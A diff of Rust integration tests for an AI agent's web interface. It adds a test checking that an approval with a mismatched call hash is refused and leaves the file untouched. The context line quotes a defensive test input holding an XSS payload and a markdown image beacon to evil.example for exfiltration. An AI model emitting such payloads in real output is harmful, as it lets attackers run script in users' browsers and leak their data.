@@ -120,3 +120,16 @@ text = "**Done.** <img src=x onerror=alert(1)> ![p](https://evil.example/p.png?d
     assert_eq!(status, StatusCode::OK);
     assert!(icon.starts_with("<svg"), "{icon}");
 }
+
+#[tokio::test]
+async fn an_approval_for_a_call_the_page_did_not_show_is_refused_and_keeps_waiting() {
+    let s = server(EDIT).await;
+    let alice = s.browser().await;
+    let run = s.start(&alice, "change the note").await;
+    let approval = s.pending_approval(&alice, &run).await;
+    let body = serde_json::json!({"decision": "approve", "call_hash": "0".repeat(64)});
+    let (status, answer) = s.call(&alice, "POST", &format!("/api/approvals/{approval}"), Some(body)).await;
+    assert_eq!((status, answer["error"]["class"].as_str()), (StatusCode::CONFLICT, Some("conflict")), "{answer}");
+    assert_eq!(s.pending_approval(&alice, &run).await, approval, "still waiting");
+    assert_eq!(std::fs::read_to_string(s.ws.join("note.txt")).unwrap(), "old\n");
+}
